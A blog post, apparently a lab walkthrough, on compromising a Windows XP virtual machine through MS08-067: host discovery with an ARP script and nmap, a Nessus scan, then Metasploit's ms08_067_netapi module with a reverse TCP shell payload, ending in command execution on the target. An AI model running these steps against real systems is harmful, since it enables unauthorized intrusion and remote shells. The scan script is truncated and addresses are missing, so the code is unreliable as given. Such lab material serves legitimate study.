Use MSF to utilize ms08_067 penetration of XP

Posted by cybaf on Thu, 03 Mar 2022 14:50:35 +0100

Using ms08_067 penetration of XP

1, Project requirements

  1. Penetrate into XP system
  2. Execute several commands in the system

2, Project implementation

1. Implementation objectives

  1. Use the tool to find the target memory live host
  2. Use tools to judge its operating system and collect relevant information
  3. Scan the vulnerability of the system and reproduce it.4. Experimental environment (if there is no written tool during the experiment, it is kali's own by default)
  • nessus 8.10
  • kali Linux 2019.1a
  • windows xp sp3 (target host)
  • windows 7 (used to imitate the real environment)

2. Implementation plan

2.1 scan the surviving hosts of the network segment

It is known that this host is an intranet host and an xp system. First, we use arp script to detect the intranet and network segment of this host

root@fengzilin53:~# ./ eth0

arp script content

if [ "$#" -ne 1 ];then       #Judge whether the user has entered at least one parameter. If no parameter is entered, output prompt information and exit

echo "Usage - ./ [interface]"
echo "Excample - ./ eth0"
echo "Example will perform an ARP scan of the local subnet to which eth0 is assigned"
interface=$1             #Pass the parameters entered by the user to the interface variable
prefix=$(ifconfig $interface | grep "inet " | cut -d 't' -f 2 | cut -d '.' -f 1-3)  #Obtain the local IP address network segment 192.168.1
#arping the entire network segment
for addr in $(seq 1 254);do
  arping -c 1 $prefix.$addr | grep "bytes from" | cut -d" " -f 5 | cut -d "(" -f 2 | cut -d")" -f 1

After using arp script to detect the target network segment, we are using netdiscover to detect the range of surviving hosts

root@fengzilin53:~# netdiscover -i eth0 -rUsing intranet sniffing, no one is found

The IP address segment obtained is

2.2 using nmap to determine the IP address of the target host

root@fengzilin53:~# nmap -sS -O
Starting Nmap 7.70 ( ) at 2021-02-05 17:12 CST
Nmap scan report for
Host is up (0.0061s latency).
Not shown: 997 closed ports
135/tcp open  msrpc
139/tcp open  netbios-ssn
445/tcp open  microsoft-ds
MAC Address: 00:0C:29:08:54:7F (VMware)
Device type: general purpose
Running: Microsoft Windows XP
OS CPE: cpe:/o:microsoft:windows_xp::sp2 cpe:/o:microsoft:windows_xp::sp3
OS details: Microsoft Windows XP SP2 or SP3
Network Distance: 1 hop

Nmap scan report for
Host is up (0.053s latency).
Not shown: 993 filtered ports
135/tcp   open  msrpc
139/tcp   open  netbios-ssn
445/tcp   open  microsoft-ds
554/tcp   open  rtsp
2869/tcp  open  icslap
5357/tcp  open  wsdapi10243/tcp open  unknown
MAC Address: 00:0C:29:6E:D2:3B (VMware)
Warning: OSScan results may be unreliable because we could not find at least 1 open and 1 closed port
Device type: general purpose|specialized|phone
Running: Microsoft Windows 2008|8.1|7|Phone|Vista
OS CPE: cpe:/o:microsoft:windows_server_2008:r2 cpe:/o:microsoft:windows_8.1 cpe:/o:microsoft:windows_7 cpe:/o:microsoft:windows cpe:/o:microsoft:windows_vista::- cpe:/o:microsoft:windows_vista::sp1
OS details: Microsoft Windows Server 2008 R2 or Windows 8.1, Microsoft Windows Embedded Standard 7, Microsoft Windows Phone 7.5 or 8.0, Microsoft Windows Vista SP0 or SP1, Windows Server 2008 SP1, or Windows 7, Microsoft Windows Vista SP2, Windows 7 SP1, or Windows Server 2008
Network Distance: 1 hop

OS detection performed. Please report any incorrect results at .
Nmap done: 3 IPaddresses (2 hosts up) scanned in 28.73 seconds


Scan the address segment through nmap to obtain information judgment is XP as the target host, and the open port is 135139445. The system version is Microsoft Windows XP SP2 or SP3

2.3 use nessus to scan the system vulnerabilities

Advanced scanning using nessus

Fill in the ip address

Turn on scanning

The scan result has aOne vulnerability and six executable vulnerabilities were found

It's scanned MS08-067

2.4 use Metasploit to penetrate XP

2.4.1 input at the command terminal

root@fengzilin53:~# systemctl start postgresql.service / / start PostgreSQL database
root@fengzilin53:~# systemctl enable postgresql / / set to auto start

2.4.2 open kali, enter the following in the terminal, and start Metasploit

root@fengzilin53:~# msfconsole2.4.3 use the search command at the command terminal to search the module corresponding to the vulnerability

msf5 > search ms08_067

2.4.4 start the penetration attack module to view the basic information and specify an attack payload

msf5 > use exploit/windows/smb/ms08_067_netapi    //Enter penetration module
msf5 exploit(windows/smb/ms08_067_netapi) > show payloads   //View attack payload

msf5 exploit(windows/smb/ms08_067_netapi) > set payloadgeneric/shell_reverse_tcp //Set attack payload
payload => generic/shell_reverse_tcp

2.4.5 after selecting the penetration attack module and attack load module, check the configuration options required to configure the penetration attack

msf5 exploit(windows/smb/ms08_067_netapi) > show options

Check the attack platform of the penetration attack module. It supports more than 60 different operating system platform versions

2.4.6 the system we scanned above is sp3. Here we use 34 simplified Chinese

And set the corresponding parameters. Here 37.138 is the Kali IP address of themachine

msf5 exploit(windows/smb/ms08_067_netapi) > set RHOST   //The target IP address is XP
msf5exploit(windows/smb/ms08_067_netapi) > set LPORT 4444             //Here, the port back to the control host is 4444
LPORT => 4444
msf5 exploit(windows/smb/ms08_067_netapi) > set LHOST    //Native IP address
msf5 exploit(windows/smb/ms08_067_netapi) > set target 34               //The target system type is 34
target => 34

2.4.7 check whether the set value is correct

msf5 exploit(windows/smb/ms08_067_netapi) > show options

2.4.8 launchpenetration attack with run command

2.4.9 when this message appears, get the permission successfully and execute the ipconfig command to view the IPaddress

//In case of garbled code, change the compatibility of the terminal to GBK

Execute shell command to view system information systeminfo

3, Summary

  1. This chapter uses the basic idea of penetration, from host discovery toinformation collection, from nothing to ownership, step by step into the system, which is also the basic idea of penetration

  2. To sum up, the idea of Metasploit is shown in the figure

Topics: metasploit